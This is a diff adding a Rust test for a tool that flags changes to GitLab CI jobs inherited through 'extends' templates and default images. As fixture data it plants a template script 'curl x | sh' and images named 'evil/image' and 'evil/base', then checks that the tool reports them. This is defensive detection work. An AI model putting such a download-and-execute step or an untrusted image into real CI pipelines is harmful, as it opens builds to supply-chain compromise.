@@ -1052,3 +1052,82 @@ fn disabled_by_auto_says_so_when_it_stops_looking() {
     assert_eq!(code, 2, "not 'added': {out}{err}");
     assert!(err.contains("--disabled-by COMMIT"), "{err}");
 }
+
+#[test]
+fn a_gitlab_job_is_compared_as_gitlab_runs_it() {
+    let repo = Repo::new();
+    let pipeline = |image: &str, script: &str, default_image: &str| {
+        format!(
+            "default:\n  image: {default_image}\nvariables:\n  MODE: fast\n.tests:\n  image: {image}\n  script:\n  - {script}\nunit:\n  extends: .tests\n  stage: test\nlint:\n  script:\n  - ruff check\n"
+        )
+    };
+    repo.write(
+        ".gitlab-ci.yml",
+        &pipeline("python:3.11", "pytest", "alpine"),
+    );
+    let base = repo.commit("2026-08-01", "Add");
+    // The template's image and script changed; `unit` did not, itself.
+    repo.write(
+        ".gitlab-ci.yml",
+        &pipeline("evil/image", "curl x | sh", "alpine"),
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("changed: job unit"), "{out}");
+    assert!(out.contains("+curl x | sh"), "{out}");
+    assert!(
+        out.contains("image: \"python:3.11\" → \"evil/image\""),
+        "{out}"
+    );
+    assert!(!out.contains("changed: job lint"), "{out}");
+    // The pipeline's default image reaches the job that sets none.
+    repo.write(
+        ".gitlab-ci.yml",
+        &pipeline("python:3.11", "pytest", "evil/base"),
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("changed: job lint"), "{out}");
+    assert!(
+        !out.contains("changed: job unit"),
+        "its own image wins: {out}"
+    );
+    // A template in another GitLab file.
+    repo.write(
+        ".gitlab-ci.yml",
+        "unit:\n  extends: .tests\n  stage: test\n",
+    );
+    repo.write(
+        ".gitlab/ci/templates.yml",
+        ".tests:\n  image: python:3.11\n  script:\n  - pytest -x\n",
+    );
+    let (code, out, err) = repo.layerlock(&["blocks", "--since", &base, "--step", "unit"]);
+    assert_eq!(code, 1, "{out}{err}");
+    assert!(out.contains("+pytest -x"), "{out}");
+
+    // What cannot be resolved is a problem, and loops end.
+    repo.write(
+        ".gitlab-ci.yml",
+        "unit:\n  extends: .missing\n  script: [x]\nloop:\n  extends: .a\n.a:\n  extends: .b\n.b:\n  extends: .a\n",
+    );
+    let (code, _, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains(".missing"), "{err}");
+    assert!(err.contains("loop"), "{err}");
+    // Templates extending many templates, many levels deep: no blow-up.
+    let mut wide = String::from("unit:\n  extends: .t0\n  script: [x]\n");
+    for level in 0..4 {
+        let next: Vec<String> = (0..50).map(|i| format!(".t{}_{i}", level + 1)).collect();
+        wide.push_str(&format!(".t{level}:\n  extends: [{}]\n", next.join(", ")));
+        for name in next {
+            wide.push_str(&format!(
+                "{name}:\n  extends: .t{}\n  variables: {{V{level}: '1'}}\n",
+                level + 1
+            ));
+        }
+    }
+    wide.push_str(".t4:\n  image: x\n");
+    repo.write(".gitlab-ci.yml", &wide);
+    let (code, out, err) = repo.layerlock_within(20, &["blocks", "--since", &base]);
+    assert!(code == 0 || code == 1, "{out}{err}");
+}
